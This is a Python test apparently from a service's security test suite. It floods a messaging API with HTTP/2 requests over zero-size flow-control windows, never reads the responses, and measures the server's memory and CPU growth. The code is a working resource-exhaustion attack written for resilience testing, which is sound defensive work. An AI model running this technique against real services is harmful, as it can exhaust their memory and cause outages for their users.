"""Attacks by what is asked for and not read."""

import time

from HTTP import http2_frames
from Attacks.attack_world import OPEN_STREAMS, Beside, attack, new_id
from Shared.checks import accepted
from Messaging.streams import message

PAGES, CONNECTIONS = 600, 6


@attack(policies=OPEN_STREAMS, limits="off")
def unread_pages(target):
    """600 pages of a stream's events are asked for, over windows of zero, and none is read."""
    alice, bob = target.person("alice"), target.person("bob")
    stream = new_id()
    accepted(alice.call(
        "POST", "/streams", json={"id": stream, "kind": "conversation", "members": [bob.user_id]}), 201)
    for _ in range(100):
        accepted(alice.call("POST", f"/streams/{stream}/events", json=message("x" * 8000)), 201)
    path = f"/streams/{stream}/events?after=0"
    page = len(alice.call("GET", path).content)
    tls, before, peak, held = http2_frames.context(target.ca, bob.device.files), target.memory(), 0, []
    fields = {"authorization": f'Layer session-token="{bob.token}"'}
    with Beside(target) as beside:
        for _ in range(CONNECTIONS):
            one = http2_frames.Connection(target.client, tls, window=0)
            one.send(*(one.request("GET", path, send=False, **fields)[1] for _ in range(PAGES // CONNECTIONS)))
            held.append(one)
            peak = max(peak, target.memory())
        # Until the service does no more for them.
        done = -1
        for _ in range(200):
            peak = max(peak, target.memory())
            if target.processor() - done < 5:
                break
            done = target.processor()
            time.sleep(0.1)
    for one in held:
        one.close()
    return f"{PAGES} pages of {page / 1024:.0f} KiB: {before:.0f} MiB before, {peak:.0f} MiB at most; {beside}"
